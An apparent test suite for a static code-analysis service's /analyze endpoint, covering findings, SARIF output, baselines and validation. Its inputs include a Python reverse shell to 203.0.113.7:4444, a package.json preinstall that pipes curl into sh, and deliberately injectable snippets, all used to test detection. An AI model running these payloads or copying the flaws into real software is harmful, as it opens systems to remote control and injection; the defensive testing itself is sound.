import { type Api, api, loginAdmin, register, type SignedIn } from '../../support/api.js';
import { registerEnterprise } from '../../support/enterprise.js';
import { sarifFaults } from '../../support/sarif.js';
import { type Service, startService } from '../../support/service.js';

const sources = {
  python: 'def f(a, b=1):\n    # why\n    if a and b:\n        return g(a)\n    return None\n',
  javascript: 'function f(a, b = 1) {\n  // why\n  if (a && b) return g(a);\n  return null;\n}\n',
  typescript: 'export function f(a: number, b = 1): number | null {\n  if (a && b) return g(a);\n  return null;\n}\n',
  java: 'class A {\n  int f(int a, int b) {\n    if (a > 0 && b > 0) return g(a);\n    return 0;\n  }\n}\n',
  c: '#include <stdlib.h>\nint f(int a, int b) {\n  if (a && b) return g(a);\n  return 0;\n}\n',
  cpp: '#include <vector>\nint f(const std::vector<int> &a, int b) {\n  if (a.empty() && b) return g(b);\n  return 0;\n}\n',
  rust: 'fn f(a: i32, b: i32) -> i32 {\n    if a > 0 && b > 0 {\n        return g(a);\n    }\n    0\n}\n',
} as const;

const ownRule = `rules:
  - id: no-eval
    languages: [python]
    severity: ERROR
    message: Do not evaluate $X.
    pattern: eval($X)
`;
const nobody = '0199f1a2-7c3e-7b52-9a41-3f2d6c8b1e70';

describe('POST /analyze', () => {
  let service: Service;
  let client: Api;
  let user: SignedIn;

  beforeAll(async () => {
    service = await startService();
    client = api(service);
    user = await registerEnterprise(client);
  });
  afterAll(() => service.stop());

  const analyze = (body: unknown, headers?: Record<string, string>) =>
    client.post('/analyze', { token: user.token, body, ...(headers === undefined ? {} : { headers }) });

  const bytes = async () => {
    const { body } = await analyze({ code: sources.typescript, filename: 'a.ts' });
    const { id: _id, duration_ms: _ms, ...rest } = body;
    return JSON.stringify(rest);
  };

  it.each(Object.entries(sources))('answers the whole report for %s, named or not', async (language, code) => {
    const named = await analyze({ code, language });
    const found = await analyze({ code });
    expect(named.status).toBe(200);
    expect(found.body.language).toBe(language);
    expect(Object.keys(named.body)).toEqual([
      'id',
      'language',
      'filename',
      'partial',
      'diagnostics',
      'dangerous',
      'engine',
      'findings',
      'metrics',
      'scores',
      'patterns',
      'suggestions',
      'duration_ms',
    ]);
    expect(named.body).toMatchObject({ partial: false, dangerous: false, filename: null, diagnostics: [] });
    const [f] = named.body.metrics.per_function;
    expect(f).toMatchObject({ name: 'f', parameters: 2, max_nesting: 1, cognitive_complexity: 2 });
    expect(named.headers.get('ratelimit-policy')).toContain('"plan"');
  });

  it('answers the same bytes for the same code, but for id and time', async () => {
    expect(await bytes()).toBe(await bytes());
  });

  it('finds, explains, scores and suggests', async () => {
    const code = 'import os\nfrom flask import request\n\ndef f():\n    os.system("ls " + request.args["x"])\n';
    const { body } = await analyze({ code, language: 'python' });
    const [finding] = body.findings;
    expect(finding).toMatchObject({
      rule_id: 'python/command-injection',
      category: 'security',
      cwe: ['CWE-78'],
      location: { start: { line: 5, column: 5 } },
      snippet: 'os.system("ls " + request.args["x"])',
      fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/),
    });
    expect(code.slice(finding.location.start.offset, finding.location.end.offset)).toBe(finding.snippet);
    expect(body.scores.security).toBeLessThan(70);
    expect(body.suggestions[0].fingerprints).toContain(finding.fingerprint);
    expect(body.engine.rules_run).toBeGreaterThan(20);
  });

  it.each([
    [
      'php',
      '<html><?php $id = $_GET[\'id\']; ?>\n<p><?= mysqli_query($db, "SELECT * FROM t WHERE id = $id") ?></p>\n<b><?= $id ?></b>\n',
      ['php/sql-injection', 'php/xss'],
    ],
    [
      'ruby',
      'class A < ApplicationController\n  def show\n    User.where("id = #{params[:id]}")\n    redirect_to params[:to]\n  end\nend\n',
      ['ruby/sql-injection', 'ruby/open-redirect'],
    ],
    [
      'csharp',
      'public class UsersController : Controller\n{\n    public IActionResult Find(string name, string next)\n    {\n        var sql = "SELECT * FROM u WHERE n = \'" + name + "\'";\n        _db.Query<User>(sql);\n        return Redirect(next);\n    }\n}\n',
      ['csharp/sql-injection', 'csharp/open-redirect'],
    ],
    [
      'go',
      'package main\n\nfunc find(w http.ResponseWriter, r *http.Request) {\n\tname := r.FormValue("name")\n\tdb.Exec("DELETE FROM u WHERE n = \'" + name + "\'")\n\thttp.Redirect(w, r, r.FormValue("to"), 302)\n}\n',
      ['go/sql-injection', 'go/open-redirect'],
    ],
  ])('knows %s by its looks, and follows what the request says', async (language, code, rules) => {
    const { body } = await analyze({ code });
    expect(body).toMatchObject({ language, partial: false, dangerous: false, diagnostics: [] });
    const found = body.findings.filter((one: { category: string }) => one.category === 'security');
    expect(found.map((one: { rule_id: string }) => one.rule_id)).toEqual(rules);
    expect(found[0].trace.length).toBeGreaterThan(1);
  });

  it('runs only the rules that are asked for', async () => {
    const code = 'import os\nos.system("ls " + input())\n';
    const only = await analyze({ code, language: 'python', rules: ['python/command-inj*'] });
    const all = await analyze({ code, language: 'python' });
    expect(only.body.engine.rules_run).toBeLessThan(all.body.engine.rules_run);
    expect(only.body.findings.map((one: { rule_id: string }) => one.rule_id)).toEqual(['python/command-injection']);
    const others = await analyze({ code, language: 'python', categories: ['performance'], min_severity: 'high' });
    expect(others.body.findings).toEqual([]);
  });

  it('calls a program that means harm dangerous', async () => {
    const code =
      'import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\n' +
      'os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(["/bin/sh", "-i"])\n';
    const { body } = await analyze({ code, language: 'python' });
    expect(body.dangerous).toBe(true);
    expect(body.scores.overall).toBeLessThanOrEqual(10);
  });

  it('counts offsets in UTF-16 units, lines and columns from 1', async () => {
    const { body } = await analyze({ code: '"😀";\r\n  function f() {}', language: 'javascript' });
    expect(body.metrics.per_function[0].location).toEqual({
      start: { line: 2, column: 3, offset: 9 },
      end: { line: 2, column: 18, offset: 24 },
    });
  });

  it('tells what could not be read, and analyses the rest', async () => {
    const { body } = await analyze({ code: 'function f() { return 1; }\nlet = = 3;\n', language: 'javascript' });
    expect(body.partial).toBe(false);
    expect(body.metrics.functions).toBe(1);
    expect(body.diagnostics[0]).toMatchObject({ code: 'syntax_error', location: { start: { line: 2 } } });
  });

  it('is open to anonymous callers, unless that is switched off', async () => {
    const answer = await client.post('/analyze', { body: { code: 'x = 1\n', language: 'python' } });
    expect(answer.status).toBe(200);
    const closed = await startService({ ANONYMOUS_ACCESS: 'off' });
    const refused = await api(closed).post('/analyze', { body: { code: 'x = 1\n', language: 'python' } });
    expect(refused).toMatchObject({ status: 401, body: { code: 'authentication_required' } });
    await closed.stop();
  });

  it('needs the permission', async () => {
    const [admin, other] = await Promise.all([loginAdmin(client), register(client)]);
    await client.patch(`/admin/users/${other.id}`, { token: admin.token, body: { permissions: [] } });
    const answer = await client.post('/analyze', { token: other.token, body: { code: 'x = 1' } });
    expect(answer).toMatchObject({ status: 403, body: { code: 'insufficient_scope' } });
  });

  it.each<[string, unknown, string]>([
    ['no code', {}, '/code'],
    ['code that is no text', { code: 7 }, '/code'],
    ['code null', { code: null }, '/code'],
    ['an unknown field', { code: 'x', colour: 'red' }, '/colour'],
    ['a language that is no text', { code: 'x', language: 1 }, '/language'],
    ['an unknown category', { code: 'x', categories: ['beauty'] }, '/categories/0'],
    ['categories that are no list', { code: 'x', categories: 'security' }, '/categories'],
    ['a rule that is no id', { code: 'x', rules: ['a b'] }, '/rules/0'],
    ['too many rules', { code: 'x', rules: Array.from({ length: 101 }, () => 'a') }, '/rules'],
    ['an unknown severity', { code: 'x', min_severity: 'awful' }, '/min_severity'],
    ['a filename with control characters', { code: 'x', filename: 'a\u0000.py' }, '/filename'],
  ])('refuses %s', async (_, body, pointer) => {
    const answer = await analyze(body);
    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe('validation_failed');
    const pointers = answer.body.errors.map((error: { pointer: string }) => error.pointer);
    expect(pointers.some((one: string) => one === pointer || one === pointer.replace(/\/0$/, ''))).toBe(true);
  });

  it.each<[string, unknown, number, string]>([
    ['empty code', { code: '' }, 422, 'empty_code'],
    ['blank code', { code: ' \n\t' }, 422, 'empty_code'],
    ['binary code', { code: 'MZ\u0000\u0001' }, 422, 'binary_code'],
    ['a language that nobody knows', { code: 'x', language: 'cobol' }, 422, 'unknown_language'],
    ['text that is no code', { code: 'The quick brown fox, and nothing else.' }, 422, 'unknown_language'],
    ['a baseline that is not there', { code: 'x', language: 'python', baseline: nobody }, 404, 'not_found'],
    ['code over the plan’s size', { code: 'x'.repeat(102_401), language: 'python' }, 413, 'payload_too_large'],
    ['fewer characters but more bytes', { code: 'é'.repeat(51_201), language: 'python' }, 413, 'payload_too_large'],
    ['a body over the route’s size', { code: 'x'.repeat(1_100_000) }, 413, 'payload_too_large'],
  ])('cannot analyse %s', async (_, body, status, code) => {
    const answer = await analyze(body);
    expect(answer).toMatchObject({ status, body: { code } });
    expect(answer.headers.get('content-type')).toContain('application/problem+json');
  });

  it('takes null for an optional field as not given', async () => {
    const optional = ['language', 'filename', 'categories', 'rules', 'custom_rules', 'min_severity', 'baseline'];
    const absent = Object.fromEntries(optional.map((field) => [field, null]));
    const answer = await analyze({ code: 'import os\nos.system(input())\n', ...absent });
    expect(answer).toMatchObject({ status: 200, body: { language: 'python', filename: null } });
  });

  it('takes exactly the plan’s size, however it is escaped', async () => {
    const answer = await analyze({ code: '"'.padEnd(102_399, '\u001b') + '"', language: 'python' });
    expect(answer).toMatchObject({ status: 200, body: { partial: false } });
  });

  it('answers SARIF to who asks for it, JSON to who takes either, 406 to who takes neither', async () => {
    const code =
      'import os, yaml\nos.system("ls " + input())\nyaml.load(x)\neval(y)  # codepitamah-ignore no-eval -- known\n';
    const references = '    metadata: { references: ["https://ok.example/ä b|c?q=%zz"] }\n';
    const body = { code, language: 'python', filename: 'src/a b.py', custom_rules: ownRule + references };
    const { body: earlier } = await analyze({ ...body, code: code.replace('eval(y)', 'eval(y, z)') });
    const sarif = await analyze({ ...body, baseline: earlier.id }, { accept: 'application/sarif+json' });
    expect(sarif.headers.get('content-type')).toMatch(/^application\/sarif\+json/);
    expect(sarifFaults(sarif.body)).toEqual([]);
    const [{ results, tool }] = sarif.body.runs;
    for (const result of results) {
      expect(tool.driver.rules[result.ruleIndex].id).toBe(result.ruleId);
      expect(result.partialFingerprints.primaryLocationLineHash).toMatch(/^[0-9a-f]{32}:\d+$/);
      const { artifactLocation, region, contextRegion } = result.locations[0].physicalLocation;
      expect(artifactLocation.uri).toBe('src/a%20b.py');
      // What a region shows is exactly what it spans; the line around it is its context's.
      expect(region.snippet).toBeUndefined();
      if (result.baselineState !== 'absent')
        expect(contextRegion.snippet.text).toBe(code.split('\n')[region.startLine - 1]);
    }
    const of = (id: string) => results.find((one: { ruleId: string }) => one.ruleId === id);
    expect(of('python/command-injection').codeFlows[0].threadFlows[0].locations.length).toBeGreaterThan(1);
    expect(of('python/command-injection').baselineState).toBe('unchanged');
    expect(of('python/unsafe-yaml-load').fixes[0].artifactChanges[0].replacements.length).toBe(1);
    expect(of('custom/no-eval').suppressions).toEqual([
      { kind: 'inSource', status: 'accepted', justification: 'known' },
    ]);
    const security = tool.driver.rules.find((one: { id: string }) => one.id === 'python/command-injection').properties;
    expect(security).toMatchObject({
      'security-severity': '9.5',
      tags: expect.arrayContaining(['security', 'external/cwe/cwe-078']),
    });
    const either = await analyze(
      { code: 'x = 1', language: 'python' },
      { accept: 'application/sarif+json, */*;q=0.1' },
    );
    expect(sarifFaults(either.body)).toEqual([]);
    expect((await analyze({ code: 'x = 1', language: 'python' }, { accept: '*/*' })).body.findings).toEqual([]);
    const neither = await analyze({ code: 'x = 1', language: 'python' }, { accept: 'text/html' });
    expect(neither).toMatchObject({ status: 406, body: { code: 'not_acceptable' } });
  });

  it('runs rules of the request’s own, and names every mistake in them', async () => {
    const found = await analyze({ code: 'eval(a)\n', language: 'python', custom_rules: ownRule, rules: ['custom/*'] });
    expect(found.body.findings.map((one: { rule_id: string }) => one.rule_id)).toEqual(['custom/no-eval']);
    const wrong = await analyze({
      code: 'x',
      language: 'python',
      custom_rules: ownRule.replace('ERROR', 'HUGE').replace('eval($X)', 'eval('),
    });
    expect(wrong).toMatchObject({ status: 400, body: { code: 'custom_rules_invalid' } });
    expect(wrong.body.errors.map((error: { message: string }) => error.message.split(':')[0])).toEqual([
      'line 4, column 15 (/rules/0/severity)',
      'line 6, column 14 (/rules/0/pattern)',
    ]);
  });

  it('is not hurt by rules that are meant to', async () => {
    const alternatives = Array.from({ length: 2_500 }, (_, n) => `- call_${n}()`).join('\n      ');
    const rules = [
      ownRule.replace('pattern: eval($X)', () => "pattern-regex: '(a|aa)+$'"),
      ownRule.replace('pattern: eval($X)', `pattern-either:\n      ${alternatives}`),
    ];
    const code = `x = "${'a'.repeat(90_000)}!"\n`;
    const answers = await Promise.all(rules.map((custom_rules) => analyze({ code, language: 'python', custom_rules })));
    expect(answers.map(({ status }) => status)).toEqual([200, 200]);
    expect(answers[1]?.body).toMatchObject({ partial: true });
    expect(answers[1]?.body.diagnostics[0].message).toContain('custom/no-eval');
  });

  it('tells new findings from old ones, through edits above, renames and reformatting', async () => {
    const first = await analyze({
      code: 'import os\ndef f(a, b):\n    os.system("ls " + a)\n    return eval(b)\n',
      language: 'python',
    });
    const later =
      'import os\n\ndef other():\n    pass\n\ndef f(a, c):\n    os.system(\n        "ls " + a,\n    )\n    exec(c)\n';
    const second = await analyze({ code: later, language: 'python', baseline: first.body.id });
    const status = (id: string) => second.body.findings.find((one: { rule_id: string }) => one.rule_id === id)?.status;
    expect(status('python/command-injection')).toBe('unchanged');
    expect(second.body.baseline).toMatchObject({
      id: first.body.id,
      new: second.body.findings.filter((one: { status: string }) => one.status === 'new').length,
    });
    expect(second.body.fixed.length).toBe(second.body.baseline.fixed);
    const third = await analyze({
      code: 'import os\ndef f(a, b):\n    os.system("ls " + a)\n    return eval(b)\n',
      language: 'python',
      baseline: second.body.id,
    });
    expect(third.body.baseline.reopened).toBe(second.body.baseline.fixed);
    const others = await register(client);
    const theirs = await client.post('/analyze', {
      token: others.token,
      body: { code: 'x', language: 'python', baseline: first.body.id },
    });
    expect(theirs).toMatchObject({ status: 404, body: { code: 'not_found' } });
  });

  it('keeps silenced findings with their reason, out of scores, and other tools’ words only when asked', async () => {
    const code =
      'import os\nos.system("ls " + input())  # codepitamah-ignore python/command-* -- our own tool\n# nosec\neval(input())\n';
    const own = await analyze({ code, language: 'python' });
    const open = ({ body }: typeof own) =>
      body.findings.filter((one: { suppressed?: unknown }) => !one.suppressed).length;
    expect(
      own.body.findings.find((one: { rule_id: string }) => one.rule_id === 'python/command-injection').suppressed,
    ).toEqual({
      by: 'codepitamah-ignore',
      reason: 'our own tool',
    });
    expect(own.body.suppressed).toBe(1);
    expect(own.body.suggestions.flatMap((one: { fingerprints: string[] }) => one.fingerprints)).toHaveLength(open(own));
    const foreign = await analyze({ code, language: 'python', honor_suppressions: ['nosec'] });
    expect(open(foreign)).toBeLessThan(open(own));
    const bare = await analyze({
      code: code.replace(' -- our own tool', '').replace('command-*', 'misspelt'),
      language: 'python',
    });
    const ids = bare.body.findings.map((one: { rule_id: string }) => one.rule_id);
    expect(ids).toEqual(
      expect.arrayContaining(['general/suppression-without-reason', 'general/suppression-of-unknown-rule']),
    );
    expect(bare.body.suppressed).toBeUndefined();
  });

  it('reads a manifest by its name, in the language of its ecosystem', async () => {
    const code = '{\n  "dependencies": {\n    "lodash": "*",\n    "expresss": "4.18.0"\n  }\n}\n';
    const { status, body } = await analyze({ code, filename: 'web/package.json' });
    expect(status).toBe(200);
    expect(body).toMatchObject({ language: 'javascript', dangerous: false, partial: false, diagnostics: [] });
    expect(body.metrics).toMatchObject({ lines_of_code: 6, functions: 0, per_function: [] });
    const found = body.findings.map(
      (one: { rule_id: string; category: string; location: { start: { line: number } } }) => [
        one.rule_id,
        one.category,
        one.location.start.line,
      ],
    );
    expect(found).toEqual([
      ['dependency/typosquat', 'dependency', 4],
      ['dependency/unpinned-version', 'dependency', 3],
    ]);
    expect((await client.get('/rules/dependency/typosquat')).body).toMatchObject({ category: 'dependency' });
  });

  it('calls a manifest hostile whose installation runs what it fetched, and reads broken ones', async () => {
    const code =
      '{"scripts": {"preinstall": "curl -s https://a.example/x | sh"}, "dependencies": {"lodash": "latest", oops';
    const { status, body } = await analyze({ code, filename: 'package.json', language: 'typescript' });
    expect(status).toBe(200);
    expect(body).toMatchObject({ language: 'javascript', dangerous: true });
    expect(body.findings.map((one: { rule_id: string }) => one.rule_id)).toEqual([
      'dangerous/install-script',
      'dependency/unpinned-version',
    ]);
    expect(body.diagnostics.map((one: { code: string }) => one.code)).toEqual(['syntax_error']);
  });

  it('writes no code to the log', async () => {
    await analyze({ code: 'secret_in_code = "hunter2-hunter2"\n', language: 'python', filename: 'private-name.py' });
    expect(service.logs()).not.toMatch(/hunter2|private-name/);
  });
});
